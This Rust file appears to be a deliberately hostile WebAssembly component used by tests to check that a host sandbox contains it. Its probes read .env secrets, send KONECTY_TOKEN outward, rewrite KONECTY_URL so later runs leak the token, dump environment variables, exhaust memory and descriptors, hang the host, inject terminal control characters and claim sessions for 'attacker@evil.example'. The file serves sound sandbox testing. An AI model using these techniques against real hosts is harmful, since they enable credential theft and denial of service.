//! A hostile implementation of the konecty:session world. `request-otp` reads a probe from
//! the email field and tries it; success comes back as `BREACH: …` in the server message,
//! so a test that sees `BREACH` knows the sandbox let something through.
//!
//! Probes: `other-origin=URL`, `follow-redirect` (GET <host>/redirect, then its Location),
//! `read=PATH` and `write=PATH` (through std, whose libc maps absolute paths into the
//! preopen), `open-at=PATH` (the raw `wasi:filesystem` call on the preopened directory, so
//! that absolute paths and `..` reach the host's checks as they are), `env`, `stdin`,
//! `allocate=BYTES` (allocates and touches that much memory, to meet the host's memory cap)
//! `spin` (loops forever, to meet the host's deadline), `block` (waits on a clock that
//! never fires: stuck in a host call, out of the epoch deadline's reach) and
//! `send-token` (reads `KONECTY_TOKEN` from `.env` and sends it to the granted host),
//! `exhaust-fds` (opens files in its directory until the host runs out of descriptors, and
//! never closes them), `hold-fields=COUNT,BYTES` (creates COUNT header sets of BYTES each and keeps them all),
//! `requests=COUNT` (sends COUNT requests to the granted host without reading or dropping
//! any answer), `controls` (answers with terminal controls, C1, bidi and zero-width characters in every
//! string the host may print), `steer-env=URL` (rewrites `KONECTY_URL` in `.env`, keeping the token, so that later runs
//! of the real component send the token to URL; allowed in this run, the harm is later).

wit_bindgen::generate!({ world: "session", path: "../../../wit" });

use exports::konecty::session::api::Guest;
use konecty::session::types::*;
use wasip2::filesystem::preopens;
use wasip2::filesystem::types::{DescriptorFlags, OpenFlags, PathFlags};
use wasip2::http::outgoing_handler;
use wasip2::http::types::{ErrorCode, Fields, Method, OutgoingRequest, Scheme};

struct Hostile;

fn breach(what: String) -> Result<OtpSent, Error> {
    Ok(OtpSent {
        channel: Channel::Email,
        sent_to: Identifier::Email("breach@example.com".into()),
        server_message: Some(format!("BREACH: {what}")),
        remembered: false,
    })
}

fn not_a_probe<T>() -> Result<T, Error> {
    Err(Error::InvalidInput(
        "the hostile test component only runs probes".into(),
    ))
}

/// GET `url`; Ok((status, location header)) if the host let the request through.
fn get(url: &str) -> Result<(u16, Option<String>), Error> {
    let (scheme, rest) = if let Some(rest) = url.strip_prefix("https://") {
        (Scheme::Https, rest)
    } else if let Some(rest) = url.strip_prefix("http://") {
        (Scheme::Http, rest)
    } else {
        return Err(Error::InvalidInput(format!("not a URL: {url}")));
    };
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_method(&Method::Get);
    let _ = request.set_scheme(Some(&scheme));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some(if path.is_empty() { "/" } else { path }));
    let refused = |code: ErrorCode| match code {
        ErrorCode::HttpRequestDenied => Error::Denied(format!("refused: {url}")),
        other => Error::Network(format!("{url}: {other:?}")),
    };
    let pending = outgoing_handler::handle(request, None).map_err(refused)?;
    pending.subscribe().block();
    match pending.get() {
        Some(Ok(Ok(response))) => {
            let location = response
                .headers()
                .get("location")
                .first()
                .map(|v| String::from_utf8_lossy(v).into_owned());
            Ok((response.status(), location))
        }
        Some(Ok(Err(code))) => Err(refused(code)),
        _ => Err(Error::Network("no response".into())),
    }
}

/// The lines of `steer.txt`, if the test planted one: the first names an origin.
fn steer_lines() -> Result<Vec<String>, Error> {
    match std::fs::read_to_string("steer.txt") {
        Ok(text) => Ok(text.lines().map(str::to_string).collect()),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(Vec::new()),
        Err(e) => Err(Error::Storage(e.to_string())),
    }
}

/// The origin named in `steer.txt`, if the test planted one.
fn steered() -> Result<Option<String>, Error> {
    Ok(steer_lines()?
        .into_iter()
        .next()
        .map(|l| l.trim().to_string()))
}

impl Guest for Hostile {
    fn login_options(_: String) -> Result<LoginMethods, Error> {
        not_a_probe()
    }

    fn request_otp(host: String, who: Identifier) -> Result<OtpSent, Error> {
        let Identifier::Email(probe) = who else {
            return not_a_probe();
        };
        if let Some(url) = probe.strip_prefix("other-origin=") {
            let (status, _) = get(url)?;
            return breach(format!("reached {url} (HTTP {status})"));
        }
        if probe == "follow-redirect" {
            let (status, location) = get(&format!("{host}/redirect"))?;
            let Some(location) = location else {
                return Err(Error::BadResponse(format!(
                    "HTTP {status} without a Location"
                )));
            };
            let (status, _) = get(&location)?;
            return breach(format!(
                "followed the redirect to {location} (HTTP {status})"
            ));
        }
        if let Some(path) = probe.strip_prefix("read=") {
            return match std::fs::read(path) {
                Ok(bytes) => breach(format!("read {path}: {}", String::from_utf8_lossy(&bytes))),
                Err(err) => Err(Error::Storage(format!("read {path}: {err}"))),
            };
        }
        if let Some(path) = probe.strip_prefix("write=") {
            return match std::fs::write(path, b"written by the hostile component") {
                Ok(()) => breach(format!("wrote {path}")),
                Err(err) => Err(Error::Storage(format!("write {path}: {err}"))),
            };
        }
        if let Some(path) = probe.strip_prefix("open-at=") {
            let directories = preopens::get_directories();
            let Some((dir, _)) = directories.first() else {
                return Err(Error::Storage("no preopened directory".into()));
            };
            let file = dir
                .open_at(
                    PathFlags::SYMLINK_FOLLOW,
                    path,
                    OpenFlags::empty(),
                    DescriptorFlags::READ,
                )
                .map_err(|code| Error::Storage(format!("open-at {path}: {code:?}")))?;
            let (bytes, _) = file
                .read(4096, 0)
                .map_err(|code| Error::Storage(format!("read {path}: {code:?}")))?;
            return breach(format!(
                "opened {path}: {}",
                String::from_utf8_lossy(&bytes)
            ));
        }
        if probe == "stdin" {
            let mut input = String::new();
            let _ = std::io::Read::read_to_string(&mut std::io::stdin(), &mut input);
            if input.is_empty() {
                return Err(Error::Denied("stdin is empty".into()));
            }
            return breach(format!("stdin: {input}"));
        }
        if probe == "env" {
            let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
            let args: Vec<String> = std::env::args().collect();
            if vars.is_empty() && args.is_empty() {
                return Err(Error::Denied(
                    "no environment variables and no arguments".into(),
                ));
            }
            return breach(format!("env {vars:?} args {args:?}"));
        }
        if let Some(bytes) = probe.strip_prefix("allocate=") {
            let bytes: usize = bytes
                .parse()
                .map_err(|_| Error::InvalidInput(format!("not a byte count: {bytes}")))?;
            // Filled with ones, so every page is written, not just reserved; black_box keeps
            // the optimizer from proving the memory unused.
            let memory = std::hint::black_box(vec![1u8; bytes]);
            let last = memory.last().copied().unwrap_or(1);
            return breach(format!("allocated {bytes} bytes (last byte {last})"));
        }
        if let Some(url) = probe.strip_prefix("steer-env=") {
            let text = std::fs::read_to_string(".env")
                .map_err(|e| Error::Storage(format!("read .env: {e}")))?;
            let steered: String = text
                .lines()
                .map(|line| match line.starts_with("KONECTY_URL=") {
                    true => format!("KONECTY_URL={url}\n"),
                    false => format!("{line}\n"),
                })
                .collect();
            std::fs::write(".env", steered)
                .map_err(|e| Error::Storage(format!("write .env: {e}")))?;
            return Ok(OtpSent {
                channel: Channel::Email,
                sent_to: Identifier::Email("steer@example.com".into()),
                server_message: Some(format!("rewrote KONECTY_URL in .env to {url}")),
                remembered: false,
            });
        }
        if probe == "send-token" {
            let env = std::fs::read_to_string(".env")
                .map_err(|e| Error::Storage(format!("read .env: {e}")))?;
            let token = env
                .lines()
                .find_map(|l| l.strip_prefix("KONECTY_TOKEN="))
                .unwrap_or_default()
                .to_string();
            let headers = Fields::new();
            let _ = headers.append("authorization", token.as_bytes());
            let request = OutgoingRequest::new(headers);
            let rest = host.split_once("://").map_or(host.as_str(), |(_, r)| r);
            let _ = request.set_scheme(Some(&Scheme::Http));
            let _ = request.set_authority(Some(rest));
            let _ = request.set_path_with_query(Some("/rest/auth/info"));
            let future = outgoing_handler::handle(request, None)
                .map_err(|code| Error::Denied(format!("{code:?}")))?;
            future.subscribe().block();
            return match future.get() {
                Some(Ok(Ok(response))) => {
                    breach(format!("sent the token (HTTP {})", response.status()))
                }
                Some(Ok(Err(ErrorCode::HttpRequestDenied))) => {
                    Err(Error::Denied("the token was refused".into()))
                }
                other => Err(Error::Network(format!("{other:?}"))),
            };
        }
        if probe == "exhaust-fds" {
            let directories = preopens::get_directories();
            let Some((dir, _)) = directories.first() else {
                return Err(Error::Storage("no preopened directory".into()));
            };
            let mut held = Vec::new();
            while let Ok(file) = dir.open_at(
                PathFlags::empty(),
                &format!("fd-{}", held.len()),
                OpenFlags::CREATE,
                DescriptorFlags::READ | DescriptorFlags::WRITE,
            ) {
                held.push(file);
                if held.len() == 10_000 {
                    break;
                }
            }
            let count = held.len();
            // Never closed: the host keeps them until the run ends.
            std::mem::forget(held);
            return Ok(OtpSent {
                channel: Channel::Email,
                sent_to: Identifier::Email("fds@example.com".into()),
                server_message: Some(format!("holding {count} descriptors")),
                remembered: false,
            });
        }
        if let Some(spec) = probe.strip_prefix("hold-fields=") {
            let (count, bytes) = spec.split_once(',').unwrap_or((spec, "0"));
            let (count, bytes): (usize, usize) =
                (count.parse().unwrap_or(0), bytes.parse().unwrap_or(0));
            let value = vec![b'a'; bytes];
            let mut held = Vec::with_capacity(count);
            for _ in 0..count {
                let fields = Fields::new();
                fields
                    .append("x-pad", &value)
                    .map_err(|e| Error::InvalidInput(format!("append: {e:?}")))?;
                held.push(fields);
            }
            return breach(format!("the host holds {} header sets", held.len()));
        }
        if let Some(count) = probe.strip_prefix("requests=") {
            let count: usize = count.parse().unwrap_or(0);
            let mut pending = Vec::new();
            let mut refused = 0;
            for _ in 0..count {
                let request = OutgoingRequest::new(Fields::new());
                let rest = host.split_once("://").map_or(host.as_str(), |(_, r)| r);
                let _ = request.set_scheme(Some(&Scheme::Http));
                let _ = request.set_authority(Some(rest));
                let _ = request.set_path_with_query(Some("/"));
                match outgoing_handler::handle(request, None) {
                    Ok(future) => pending.push(future),
                    Err(_) => refused += 1,
                }
            }
            // Wait for every answer, holding them all.
            let mut answered = Vec::new();
            for future in &pending {
                future.subscribe().block();
                if let Some(Ok(Ok(response))) = future.get() {
                    answered.push(response);
                } else {
                    refused += 1;
                }
            }
            if refused > 0 {
                return Err(Error::Network(format!(
                    "{} answered, {refused} refused",
                    answered.len()
                )));
            }
            return breach(format!("{} requests answered at once", answered.len()));
        }
        if probe == "controls" {
            return Ok(OtpSent {
                channel: Channel::Email,
                sent_to: Identifier::Email(
                    "a@x\u{1b}]0;owned\u{7}.\u{9b}31m\u{202e}moc.\u{200b}example".into(),
                ),
                server_message: Some("sent\r\u{1b}[2J\u{85}\u{2066}done".into()),
                remembered: false,
            });
        }
        if probe == "block" {
            wasip2::clocks::monotonic_clock::subscribe_duration(u64::MAX).block();
            return breach("woke up from a wait that never ends".into());
        }
        if probe == "spin" {
            let mut turns = 0u64;
            loop {
                // black_box makes each turn observable, so the loop cannot be removed.
                turns = std::hint::black_box(turns.wrapping_add(1));
            }
        }
        not_a_probe()
    }

    fn verify_otp(
        _: String,
        _: Identifier,
        _: String,
        _: Option<ClientLabel>,
        _: Option<Geolocation>,
    ) -> Result<Session, Error> {
        not_a_probe()
    }

    /// Claims a pending request made for another host (the steered one, else
    /// `https://elsewhere.example`), to an attacker's address, hoping the host verifies it.
    fn pending_request(_: String) -> Result<Option<CodeRequest>, Error> {
        Ok(Some(CodeRequest {
            host: steered()?.unwrap_or_else(|| "https://elsewhere.example".into()),
            recipient: Identifier::Email("attacker@evil.example".into()),
            requested_at: 0,
        }))
    }

    fn save_session(_: Session, _: SaveTargets) -> Result<(), Error> {
        not_a_probe()
    }

    /// Claims a session for the origin named in `steer.txt`, hoping the host grants it.
    /// Without `steer.txt`, no sessions: the host also asks before `request-otp`.
    fn read_sessions(_: String) -> Result<Vec<StoredSession>, Error> {
        Ok(steered()?
            .into_iter()
            .map(|target| StoredSession {
                host: target.clone(),
                token: target,
                user_id: None,
                issued_at: None,
                file: CredentialFile::CredentialsFile,
            })
            .collect())
    }

    /// Names every line of `steer.txt` as a stored host (the first is the steered origin).
    fn stored_hosts() -> Result<Vec<String>, Error> {
        steer_lines()
    }

    fn use_session(_: String) -> Result<Option<StoredSession>, Error> {
        not_a_probe()
    }

    /// Tries to reach the URL it smuggled in as the token.
    fn check_session(_: String, token: String) -> Result<SessionCheck, Error> {
        let (status, _) = get(&token)?;
        Err(Error::BadResponse(format!(
            "BREACH: reached {token} (HTTP {status})"
        )))
    }

    fn logout(_: String) -> Result<LogoutOutcome, Error> {
        not_a_probe()
    }
}

export!(Hostile);
